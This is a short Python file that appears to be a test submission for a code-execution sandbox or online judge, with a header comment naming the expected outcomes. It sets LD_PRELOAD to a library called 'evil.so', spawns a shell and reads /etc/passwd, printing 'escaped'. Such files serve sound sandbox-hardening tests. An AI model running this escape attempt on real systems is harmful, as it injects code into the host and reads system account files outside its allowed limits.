# stdin | wrong answer|runtime error
import os

os.environ["LD_PRELOAD"] = "/tmp/evil.so"
os.execv("/bin/sh", ["sh", "-c", "echo free; cat /etc/passwd && echo escaped"])
